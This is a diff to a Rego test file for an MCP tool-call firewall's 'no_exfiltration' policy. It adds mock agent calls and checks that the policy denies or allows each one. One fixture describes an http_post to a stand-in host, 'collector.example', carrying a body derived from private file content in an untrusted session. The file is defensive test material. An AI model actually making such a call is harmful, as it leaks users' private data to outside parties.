@@ -4,15 +4,42 @@ import rego.v1
 
 import data.mcp_firewall.packs.no_exfiltration
 
+private_body := [{"path": ["body"], "kind": "substring", "trust": "internal", "confidentiality": "private", "sources": [3], "servers": ["files"]}]
+
+public_body := [{"path": ["body"], "kind": "substring", "trust": "untrusted", "confidentiality": "public", "sources": [4], "servers": ["web"]}]
+
+# The call's body derives from content of the session's confidentiality.
 call(classes, trust, confidentiality) := {
 	"phase": "call",
 	"tool": {"name": "http_post", "classes": classes},
+	"arguments": {"url": "https://collector.example/in", "body": "..."},
 	"session": {"context": {"trust": trust, "confidentiality": confidentiality}},
+	"provenance": {"derived_from": body_of(confidentiality), "user_given": []},
 }
+
+body_of("private") := private_body
+
+body_of("public") := public_body
 
 test_egress_after_private_and_untrusted_is_denied if {
 	some f in no_exfiltration.deny with input as call(["egress"], "untrusted", "private")
 	f.rule_id == "no_exfiltration.egress_after_private_and_untrusted"
+}
+
+test_egress_carrying_nothing_private_is_allowed_after_untrusted_content if {
+	nothing := object.union(call(["egress"], "untrusted", "private"), {"provenance": {"derived_from": [], "user_given": []}})
+	count(no_exfiltration.deny) == 0 with input as nothing
+}
+
+test_private_data_to_the_users_own_address_is_allowed if {
+	own := {
+		"phase": "call",
+		"tool": {"name": "send_email", "classes": ["egress"]},
+		"arguments": {"to": "me@home.example", "body": "summary"},
+		"session": {"context": {"trust": "untrusted", "confidentiality": "private"}},
+		"provenance": {"derived_from": private_body, "user_given": [["to"]]},
+	}
+	count(no_exfiltration.deny) == 0 with input as own
 }
 
 test_egress_with_only_private_data_is_allowed if {
